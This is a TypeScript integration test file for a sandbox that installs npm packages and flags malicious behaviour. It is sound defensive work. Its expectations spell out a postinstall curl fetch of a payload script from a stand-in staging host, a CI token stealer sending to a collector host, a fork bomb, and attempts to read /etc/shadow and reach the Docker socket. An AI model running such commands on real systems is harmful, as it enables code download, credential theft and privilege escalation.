import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { analyzeLocalPackage } from '@airlock/analysis';
import { REPORT_VERSION, type PhaseProcessTree, type ProcessTreeNode, type SandboxReport } from '@airlock/core';
import { renderReportText } from '@airlock/report';
import { SANDBOX_LABEL, connectDocker } from '@airlock/sandbox';
import { reportSchemaErrors } from '../support/report-schema.js';
import { testTempDir } from '../support/temp-dir.js';

// These tests drive the real Docker engine with the images `npm run setup` builds. Nothing is mocked.
const docker = connectDocker();
const fixture = (name: string) => resolve(__dirname, '../fixtures/npm', name);
const artifactsRoot = testTempDir('airlock-it-');

async function containersOf(report: { id: string }) {
  return docker.listContainers({ all: true, filters: { label: [`airlock.analysis=${report.id}`] } });
}
const phase = (r: SandboxReport, name: string) => r.phases.find((p) => p.name === name)!;
const basename = (p: string) => p.split('/').pop();
/** The node and its visible ancestors, root first. */
function chainTo(tree: PhaseProcessTree, node: ProcessTreeNode): ProcessTreeNode[] {
  const chain = [node];
  while (chain[0]!.parent !== null) chain.unshift(tree.nodes[chain[0]!.parent]!);
  return chain;
}

describe('sandbox run against the real Docker engine', () => {
  it('installs and imports a benign package with no processes beyond npm/node', async () => {
    const report = await analyzeLocalPackage(fixture('benign-no-scripts'), { docker, artifactsRoot });
    expect(phase(report, 'install')).toMatchObject({ status: 'completed', exitCode: 0 });
    expect(phase(report, 'import')).toMatchObject({ status: 'completed', exitCode: 0 });
    expect(report.importResult).toMatchObject({ require: { ok: true, exportKeys: ['add', 'greet'] }, import: { ok: true } });
    expect(report.verdict).toMatchObject({ verdict: 'benign', score: 0, reasons: [] });
    expect(report.processes.length).toBeGreaterThan(0);
    expect(new Set(report.processes.map((p) => basename(p.path)))).toEqual(new Set(['npm', 'node']));
    expect(report.processes.every((p) => p.attribution?.event !== 'postinstall')).toBe(true);
    expect(report.fsDiff).toContainEqual({
      path: '/home/jordan/projects/app/node_modules/airlock-fixture-benign/index.js',
      kind: 'added',
      normalizedPath: '<PKG>/index.js',
    });
    expect(report.trace.install!.events).toBeGreaterThan(100);
    expect(report.sandbox).toMatchObject({ capDrop: ['ALL'], pidsLimit: 256, readonlyRootfs: false });
    expect(report.sandbox.networkMode).toMatch(/^namespace of the fake internet/);
    expect(report.sandbox.securityOpt).toContain('no-new-privileges:true');
    expect(await containersOf(report)).toEqual([]);
  });

  it('shows a postinstall shell and the file it writes under $HOME, from strace and from the diff', async () => {
    const report = await analyzeLocalPackage(fixture('postinstall-shell-write'), { docker, artifactsRoot });
    expect(phase(report, 'install')).toMatchObject({ status: 'completed', exitCode: 0 });
    const shell = report.processes.find((p) => p.argv[0] === 'sh' && p.argv[2]?.startsWith('echo airlock-marker'));
    expect(shell).toBeDefined();
    expect(shell!.argv).toEqual(['sh', '-c', 'echo airlock-marker > "$HOME/.airlock-fixture-marker"; id']);
    expect(shell!.attribution).toMatchObject({ packageName: 'airlock-fixture-postinstall-write', event: 'postinstall' });
    expect(report.processes.some((p) => p.path === '/usr/bin/id' && p.ppid !== null)).toBe(true);
    expect(report.fileWrites).toContainEqual(
      expect.objectContaining({ path: '/home/jordan/.airlock-fixture-marker', operation: 'create', result: 'ok' }),
    );
    expect(report.fsDiff).toContainEqual({
      path: '/home/jordan/.airlock-fixture-marker',
      kind: 'added',
      normalizedPath: '<HOME>/.airlock-fixture-marker',
    });
    expect(report.staticSignals.map((s) => s.id)).toContain('install-script.present');
  });

  it("reports the process tree npm -> sh -> sh -> curl of a postinstall, attributed to it, with curl's request", async () => {
    const script = "sh -c 'curl -s -m 5 -o /dev/null http://stage2.tree-fixture.example/payload.sh; echo fetched'";
    const report = await analyzeLocalPackage(fixture('tree-sh-curl'), { docker, artifactsRoot });
    expect(phase(report, 'install')).toMatchObject({ status: 'completed', exitCode: 0 });
    expect(reportSchemaErrors(report)).toEqual([]);
    const tree = report.processTree.install!;
    const curl = tree.nodes.find((n) => n.execs.some((e) => e.path === '/usr/bin/curl'))!;
    expect(curl).toBeDefined();
    const chain = chainTo(tree, curl);
    // npm runs every script through its own `sh -c <script>`; the script's `sh -c` then starts curl.
    expect(chain.map((n) => n.execs.map((e) => basename(e.path)))).toEqual([['npm', 'node'], ['sh'], ['sh'], ['curl']]);
    expect(chain.map((n) => n.execs.at(-1)!.argv)).toEqual([
      ['node', '/usr/local/bin/npm', ...chain[0]!.execs[0]!.argv.slice(1)],
      ['sh', '-c', script],
      ['sh', '-c', 'curl -s -m 5 -o /dev/null http://stage2.tree-fixture.example/payload.sh; echo fetched'],
      ['curl', '-s', '-m', '5', '-o', '/dev/null', 'http://stage2.tree-fixture.example/payload.sh'],
    ]);
    expect(chain[0]!.execs[0]!.argv.slice(0, 2)).toEqual(['npm', 'install']);
    expect(tree.roots).toEqual([chain[0]!.id]);
    expect(chain[0]!.attribution).toBeNull();
    const postinstall = { packageName: 'airlock-fixture-tree-sh-curl', event: 'postinstall', script };
    expect(chain.slice(1).map((n) => n.attribution)).toEqual([postinstall, postinstall, postinstall]);
    expect(chain.slice(1).map((n) => [n.ppid, n.exitCode])).toEqual([
      [chain[0]!.pid, 0],
      [chain[1]!.pid, 0],
      [chain[2]!.pid, 0],
    ]);
    expect(curl.startTime).toBeLessThan(curl.exitTime!);
    // The runner (airlock-exec) is hidden; nothing from /opt/airlock shows in the tree.
    expect(tree.hiddenProcesses).toBeGreaterThanOrEqual(1);
    expect(tree.nodes.flatMap((n) => n.execs).some((e) => e.path.startsWith('/opt/airlock/'))).toBe(false);
    // The fake internet answered curl: the GET arrived with its hostname.
    expect(report.network.tcp).toContainEqual(
      expect.objectContaining({
        destination: expect.objectContaining({ hostname: 'stage2.tree-fixture.example', port: 80 }),
        http: expect.objectContaining({ method: 'GET', target: '/payload.sh' }),
      }),
    );
    expect(phase(report, 'install').stdout.text).toContain('fetched');
    // npm reads ~/.npmrc itself (unattributed); curl's lookups read /etc/passwd under the postinstall.
    expect(report.sensitiveFiles).toContainEqual(
      expect.objectContaining({ rule: 'npmrc', phase: 'install', normalizedPath: '<HOME>/.npmrc', attribution: null }),
    );
    const text = renderReportText(report);
    expect(text).toContain(
      `└─ curl -s -m 5 -o /dev/null http://stage2.tree-fixture.example/payload.sh  [pid ${curl.pid}, exit 0]  <- airlock-fixture-tree-sh-curl postinstall`,
    );
  });

  it('ends an endless postinstall at its time limit and removes the container', async () => {
    // No retry: this checks the limit of one run (the planner's retry with doubled limits: fail-closed.test.ts).
    const report = await analyzeLocalPackage(fixture('infinite-loop'), {
      docker,
      artifactsRoot,
      timeoutsMs: { install: 8000 },
      retry: false,
    });
    const install = phase(report, 'install');
    expect(report.verdict?.verdict).toBe('inconclusive');
    expect(install.status).toBe('timeout');
    expect(install.durationMs).toBeGreaterThanOrEqual(8000);
    expect(install.durationMs).toBeLessThan(8000 + 2000);
    expect(report.timings.phasesMs.install).toBeLessThan(8000 + 5000);
    expect(install.lingeringProcesses).toBeGreaterThan(0);
    expect(phase(report, 'import').status).toBe('completed');
    expect(await containersOf(report)).toEqual([]);
  });

  it('contains a fork bomb with the pids limit and keeps the host responsive', async () => {
    const lags: number[] = [];
    let running = true;
    const probe = (async () => {
      while (running) {
        const t = Date.now();
        await new Promise((r) => setTimeout(r, 100));
        lags.push(Date.now() - t - 100);
      }
    })();
    // One run: the retry and the time and windows views are theirs to test (fail-closed, time-view, platform-views).
    const report = await analyzeLocalPackage(fixture('fork-bomb'), {
      docker,
      artifactsRoot,
      timeoutsMs: { install: 10000 },
      retry: false,
      timeView: false,
      platformViews: false,
    });
    running = false;
    await probe;
    expect(phase(report, 'install').status).toBe('timeout');
    // The bomb grew until the pids limit (256) stopped it, and every one of its processes was killed.
    expect(phase(report, 'install').lingeringProcesses).toBeGreaterThan(50);
    expect(phase(report, 'install').lingeringProcesses).toBeLessThanOrEqual(256);
    expect(phase(report, 'install').stderr.text).toMatch(/fork: (retry: )?Resource temporarily unavailable/);
    // After the bomb is killed the same container runs the next phase; or, when killing it outlasted the
    // sweep's deadline (seen on a quiet 2-core machine too) or the host's deadline of the install (under
    // load), the run says the import was not seen and is not benign.
    if (phase(report, 'import').status !== 'completed') {
      const unseen = (report.verdict?.notObserved ?? []).filter(
        (n) => n.phase === 'import' || n.kind === 'sandbox.sweep-stopped' || n.kind === 'sandbox.stopped',
      );
      expect(unseen.length).toBeGreaterThan(0);
      expect(report.verdict?.verdict).toBe('inconclusive');
    }
    expect(Math.max(...lags)).toBeLessThan(1500);
    expect(await containersOf(report)).toEqual([]);
  });

  it('denies the Docker socket, /etc/shadow, setuid(0) and sudo, and shows each attempt (under gVisor)', async () => {
    const report = await analyzeLocalPackage(fixture('escalate'), { docker, artifactsRoot });
    const install = phase(report, 'install');
    expect(install.status).toBe('completed');
    expect(install.stdout.text).toContain('read-shadow denied EACCES');
    expect(install.stdout.text).toContain('setuid0 denied EPERM');
    expect(install.stdout.text).toMatch(/no new privileges/);
    expect(report.denied).toContainEqual(expect.objectContaining({ target: '/etc/shadow', result: 'EACCES' }));
    expect(report.denied.some((d) => d.syscall === 'setuid' && d.result === 'EPERM')).toBe(true);
    // gVisor's Sentry does not decode AF_UNIX addresses (runsc 20240729): the connect shows without its path;
    // the read of the socket's path names it.
    expect(report.sandbox.tracer).toBe('gvisor-sentry');
    expect(report.connections).toContainEqual(expect.objectContaining({ family: 'AF_UNIX', address: '', result: 'ENOENT' }));
    expect(report.processes.some((p) => basename(p.path) === 'sudo')).toBe(true);
    // The same attempts in the sensitive-file section, attributed to the package's postinstall.
    const escalate = { packageName: 'airlock-fixture-escalate', event: 'postinstall', script: 'node escalate.js' };
    expect(report.sensitiveFiles).toContainEqual(
      expect.objectContaining({ rule: 'system-accounts', path: '/etc/shadow', access: 'read', result: 'EACCES', attribution: escalate }),
    );
    expect(report.sensitiveFiles).toContainEqual(
      expect.objectContaining({ rule: 'docker-socket', access: 'read', result: 'ENOENT', attribution: escalate }),
    );
  });

  it('removes the container when the analysis is aborted (Ctrl-C)', async () => {
    const controller = new AbortController();
    const seen: string[] = [];
    const pending = analyzeLocalPackage(fixture('infinite-loop'), {
      docker,
      artifactsRoot,
      signal: controller.signal,
      log: (message) => {
        seen.push(message);
        if (message === 'sandbox started') setTimeout(() => controller.abort(), 2000);
      },
    });
    await expect(pending).rejects.toMatchObject({ code: 'ABORTED' });
    expect(seen).toContain('sandbox started');
    const left = await docker.listContainers({ all: true, filters: { label: [SANDBOX_LABEL] } });
    expect(left.filter((c) => c.Labels['airlock.owner']?.endsWith(`:${process.pid}`))).toEqual([]);
  });

  it('airlock scan --json prints a full report', async () => {
    const { stdout } = await promisify(execFile)(
      'node',
      [
        resolve(__dirname, '../../apps/cli/dist/main.js'),
        'scan',
        fixture('postinstall-shell-write'),
        '--json',
        '--artifacts',
        artifactsRoot,
      ],
      { maxBuffer: 64 * 1024 * 1024 },
    );
    const report = JSON.parse(stdout) as SandboxReport;
    expect(reportSchemaErrors(report)).toEqual([]);
    expect(report.reportVersion).toBe(REPORT_VERSION);
    expect(report.package).toMatchObject({ name: 'airlock-fixture-postinstall-write', version: '1.0.0' });
    expect(report.artifacts['install.gvisor.jsonl']).toMatch(/install\.gvisor\.jsonl$/);
    expect(report.sandbox).toMatchObject({ runtime: 'airlock-runsc', tracer: 'gvisor-sentry' });
    expect(report.processes.some((p) => p.attribution?.event === 'postinstall')).toBe(true);
    const shell = report.processTree.install!.nodes.find((n) => n.execs.at(-1)?.argv[2]?.startsWith('echo airlock-marker'))!;
    expect(shell.attribution).toMatchObject({ packageName: 'airlock-fixture-postinstall-write', event: 'postinstall' });
    expect(report.fileWrites).toContainEqual(
      expect.objectContaining({ path: '/home/jordan/.airlock-fixture-marker', normalizedPath: '<HOME>/.airlock-fixture-marker' }),
    );
    // A postinstall shell alone is suspicious, not malicious: the exit code stays 0 under --fail-on malicious.
    expect(report.verdict?.verdict).toBe('suspicious');
    expect(report.verdict?.reasons.map((r) => r.rule)).toContain('lifecycle-shell');
  });
});

describe('the CI profile', () => {
  it('runs a quiet package that reads CI variables again as a CI job, where it steals the token', async () => {
    const r = await analyzeLocalPackage(fixture('ci-only-stealer'), { docker, artifactsRoot });
    expect(reportSchemaErrors(r)).toEqual([]);
    expect(r.sandbox.profile).toMatchObject({ name: 'ci', reason: expect.stringContaining('GITHUB_ACTIONS') });
    expect(r.sandbox.profile.env).toEqual(expect.arrayContaining(['CI', 'GITHUB_ACTIONS', 'GITHUB_REPOSITORY']));
    expect(r.verdict?.verdict).toBe('malicious');
    expect(r.honeytokens.exfiltrated).toContainEqual(
      expect.objectContaining({ kind: 'github-token', channel: 'http', destination: expect.stringContaining('ci-collector.example') }),
    );
    expect(renderReportText(r)).toMatch(/profile: CI job .*because the package's code reads .*GITHUB_ACTIONS/);
  });

  it('does not run a second time for a package that never looks at CI', async () => {
    const r = await analyzeLocalPackage(fixture('benign-no-scripts'), { docker, artifactsRoot });
    expect(r.sandbox.profile).toEqual({ name: 'developer', reason: null, env: [], platform: 'linux' });
  });
});

describe('airlock scan --previous', () => {
  it("scores what an update newly does against the previous version's report, and refuses a file that is not one", async () => {
    const cli = resolve(__dirname, '../../apps/cli/dist/main.js');
    const dir = testTempDir('airlock-prev-');
    // The previous version did nothing at all: every destination of this one is new.
    const previous = {
      package: { ecosystem: 'npm', name: 'airlock-fixture-net-https-post', version: '0.9.0' },
      processes: [],
      sensitiveFiles: [],
      network: { dns: [], tcp: [], udp: [] },
    };
    writeFileSync(join(dir, 'prev.json'), JSON.stringify(previous));
    const { stdout } = await promisify(execFile)(
      'node',
      [cli, 'scan', fixture('net-https-post'), '--json', '--previous', join(dir, 'prev.json'), '--artifacts', artifactsRoot],
      { maxBuffer: 64 * 1024 * 1024 },
    ).catch((err: { stdout: string }) => err);
    const report = JSON.parse(stdout) as SandboxReport;
    const drift = report.verdict!.reasons.find((r) => r.rule === 'update.new-destinations')!;
    expect(drift.explanation).toMatch(/than airlock-fixture-net-https-post@0\.9\.0.*telemetry\.exfil-fixture\.example/);
    writeFileSync(join(dir, 'bad.json'), '{"hello": 1}');
    const code = await promisify(execFile)('node', [cli, 'scan', fixture('net-https-post'), '--previous', join(dir, 'bad.json')]).then(
      () => 0,
      (err: { code: number }) => err.code,
    );
    expect(code).toBe(2);
  });
});

describe('airlock scan exit codes', () => {
  it('exits 1 with --fail-on suspicious for a suspicious package, and 2 for a path that does not exist', async () => {
    const cli = resolve(__dirname, '../../apps/cli/dist/main.js');
    const run = (args: string[]) =>
      promisify(execFile)('node', [cli, 'scan', ...args, '--artifacts', artifactsRoot]).then(
        () => 0,
        (err: { code: number }) => err.code,
      );
    expect(await run([fixture('postinstall-shell-write'), '--fail-on', 'suspicious'])).toBe(1);
    expect(await run(['/nonexistent/airlock-package'])).toBe(2);
  });
});

describe('orphaned sandboxes', () => {
  it('removes containers whose owning process on this host is gone, and leaves live ones', async () => {
    const { reapOrphans } = await import('@airlock/sandbox');
    const { hostname } = await import('node:os');
    const make = (owner: string) =>
      docker.createContainer({
        Image: 'airlock/sandbox-npm:latest',
        Cmd: ['true'],
        Labels: { [SANDBOX_LABEL]: '1', 'airlock.owner': owner, 'airlock.analysis': 'reap-test' },
        HostConfig: { NetworkMode: 'none' },
      });
    const dead = await make(`${hostname()}:999999`);
    const alive = await make(`${hostname()}:${process.pid}`);
    try {
      expect(await reapOrphans(docker, SANDBOX_LABEL)).toBeGreaterThanOrEqual(1);
      const left = (await docker.listContainers({ all: true, filters: { label: ['airlock.analysis=reap-test'] } })).map((c) => c.Id);
      expect(left).toEqual([alive.id]);
    } finally {
      await dead.remove({ force: true }).catch(() => undefined);
      await alive.remove({ force: true }).catch(() => undefined);
    }
  });
});
